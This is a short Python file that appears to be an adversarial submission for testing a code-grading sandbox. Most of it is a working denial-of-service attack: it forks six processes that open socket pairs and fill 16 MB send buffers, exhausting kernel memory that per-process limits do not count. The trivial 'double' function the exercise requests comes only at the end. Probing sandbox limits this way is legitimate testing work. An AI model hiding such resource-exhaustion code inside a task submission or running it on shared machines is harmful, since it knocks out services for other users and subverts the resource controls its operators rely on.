# attacks: 01-double
# keeps: 01-dedup 01-setting
# Fills the buffers of sockets, which are memory of no process.
# %%
# exercise 01-double
import os, socket, time
for _ in range(6):
    if os.fork() == 0:
        held = []
        try:
            while True:
                pair = socket.socketpair()
                held.append(pair)
                pair[0].setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 24)
                pair[0].setblocking(False)
                try:
                    while True: pair[0].send(b"x" * 65536)
                except BlockingIOError: pass
        except OSError: pass
        time.sleep(60)
time.sleep(2.5)
def double(number): return 2 * number
